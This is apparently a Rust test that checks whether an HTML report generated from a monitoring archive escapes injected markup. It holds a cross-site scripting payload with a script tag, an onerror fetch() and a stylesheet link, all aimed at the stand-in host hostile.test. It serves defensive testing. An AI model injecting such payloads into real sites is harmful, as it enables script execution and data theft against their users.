//! The page in a real browser, if one is installed: it is displayed and sends no requests.

use std::ffi::OsStr;
use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};

use super::with_results;
use crate::support::archive::{blocks, gzip, members};
use crate::support::binary::Binary;

/// Executable names of Chromium.
const NAMES: [&str; 4] = ["chromium", "chromium-browser", "google-chrome", "google-chrome-stable"];

fn browser() -> Option<PathBuf> {
    let folders: Vec<PathBuf> = std::env::split_paths(&std::env::var_os("PATH")?).collect();
    let candidates = NAMES
        .iter()
        .flat_map(|name| folders.iter().map(move |folder| folder.join(name)));
    candidates.into_iter().find(|path| path.is_file())
}

/// A proxy that sends no responses and records requests.
fn proxy() -> (u16, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let asked = Arc::new(Mutex::new(Vec::new()));
    let recorded = Arc::clone(&asked);
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { return };
            let mut request = [0; 4096];
            let length = stream.read(&mut request).unwrap_or(0);
            let line = String::from_utf8_lossy(&request[..length])
                .lines()
                .next()
                .unwrap_or_default()
                .to_owned();
            recorded.lock().unwrap().push(line);
            let _ = stream.write_all(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
        }
    });
    (port, asked)
}

/// An archive with input documents, annotations and results that try to make a page load or run something.
fn hostile_archive(binary: &Binary) -> String {
    let attack = r#"'\"></title></style><script src=//hostile.test/s.js></script><img src=http://hostile.test/i.png onerror=fetch('http://hostile.test/x')><link rel=stylesheet href=http://hostile.test/c.css>"#;
    let mut entries = members(Path::new(&with_results(binary)));
    for entry in &mut entries {
        let text = String::from_utf8(std::mem::take(&mut entry.content)).unwrap();
        let text = match entry.name.rsplit('_').next() {
            Some("1.ndjson" | "annotations.ndjson") => text
                .replace("web-21.ams.corp.example", attack)
                .replace("mueller", attack),
            Some("config.json") => text.replace("Response time of the web tier, per host", attack),
            _ => text,
        };
        entry.content = text.into_bytes();
    }
    let path = binary.path("hostile.tar.gz");
    std::fs::write(&path, gzip(&blocks(&entries))).unwrap();
    path.display().to_string()
}

/// Width, height and the rows of a PNG image, before filters are undone.
fn rows(png: &[u8]) -> (u32, u32, Vec<Vec<u8>>) {
    let number = |at: usize| u32::from_be_bytes(png[at..at + 4].try_into().unwrap());
    let (width, height, mut at, mut compressed) = (number(16), number(20), 8, Vec::new());
    while at < png.len() {
        let length = number(at) as usize;
        if &png[at + 4..at + 8] == b"IDAT" {
            compressed.extend_from_slice(&png[at + 8..at + 8 + length]);
        }
        at += length + 12;
    }
    let mut pixels = Vec::new();
    flate2::read::ZlibDecoder::new(&compressed[..])
        .read_to_end(&mut pixels)
        .unwrap();
    let row = pixels.len() / height as usize;
    (width, height, pixels.chunks(row).map(<[u8]>::to_vec).collect())
}

fn screenshot(browser: &Path, page: &Path, port: u16, image: &Path) {
    let profile = tempfile::tempdir().unwrap();
    let mut flags: Vec<String> = [
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--hide-scrollbars",
        "--window-size=1000,1400",
        "--proxy-bypass-list=<-loopback>",
    ]
    .map(str::to_owned)
    .into();
    flags.push(format!("--proxy-server=http://127.0.0.1:{port}"));
    flags.push(format!("--user-data-dir={}", profile.path().display()));
    flags.push(format!("--screenshot={}", image.display()));
    let status = Command::new(browser)
        .args(flags.iter().map(OsStr::new))
        .arg(format!("file://{}", page.display()))
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status();
    assert!(status.is_ok_and(|status| status.success()), "the browser does not run");
}

#[test]
fn html_page_of_a_hostile_archive_runs_and_loads_nothing() {
    let Some(browser) = browser() else {
        // The output of a macro would be visible only if the test fails.
        let mut stderr = std::io::stderr();
        let _ = writeln!(
            stderr,
            "no Chromium on the PATH: the page is not looked at in a browser"
        );
        return;
    };
    let binary = Binary::new();
    let archive = hostile_archive(&binary);
    binary
        .run(["inspect", &archive, "--values", "--html", "page.html"])
        .expect(0);
    let page = std::fs::read_to_string(binary.path("page.html")).unwrap();
    assert!(page.contains("hostile.test"), "the attack is in the page, as text");
    let (port, asked) = proxy();
    let image = binary.path("page.png");
    screenshot(&browser, &binary.path("page.html"), port, &image);
    let asked = asked.lock().unwrap();
    assert!(asked.iter().all(|line| !line.contains("hostile")), "{asked:?}");
    let (width, height, rows) = rows(&std::fs::read(image).unwrap());
    assert_eq!((width, height), (1000, 1400));
    let distinct: std::collections::BTreeSet<&Vec<u8>> = rows.iter().collect();
    assert!(
        distinct.len() > 200,
        "the page is blank: {} distinct rows",
        distinct.len()
    );
}
